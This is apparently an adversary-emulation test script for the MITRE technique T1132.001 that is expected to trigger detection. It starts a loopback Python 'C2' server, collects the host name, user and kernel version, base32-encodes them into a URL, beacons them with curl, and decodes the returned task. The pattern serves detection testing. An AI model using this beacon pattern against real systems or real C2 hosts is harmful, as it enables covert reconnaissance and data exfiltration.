# technique: T1132.001
# tactic: command-and-control
# name: Host details base32-encoded into the URL of an HTTP beacon to a loopback C2
# expect: detected
. "$EMULATION_LIB"
need python3 curl base32 timeout ss
loopback_up
# The implant encodes what it sends (host name, user, kernel) with base32, which survives URLs
# and DNS labels, and decodes its tasking the same way. The C2 is a loopback Python server that
# answers every request with a base32-encoded task.
cat > c2.py <<'PY'
import base64, http.server
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        open("checkins.log", "a").write(self.path + "\n")
        body = base64.b32encode(b"sleep 0").decode()
        self.send_response(200); self.end_headers(); self.wfile.write(body.encode())
    def log_message(self, *a): pass
http.server.HTTPServer(("127.0.0.1", 8053), H).serve_forever()
PY
timeout 9 python3 c2.py &
server=$!
i=0; until ss -ltn | grep -q ':8053 '; do i=$((i+1)); [ $i -lt 50 ] || exit 1; sleep 0.1; done
id=$(printf '%s|%s|%s' "$(hostname)" "$(id -un)" "$(uname -r)" | base32 -w0 | tr -d '=')
task=$(curl -s --max-time 2 "http://127.0.0.1:8053/c/$id")
printf '%s' "$task" | base32 -d >/dev/null
kill "$server" 2>/dev/null || true
wait "$server" 2>/dev/null || true
grep -q "/c/$id" checkins.log
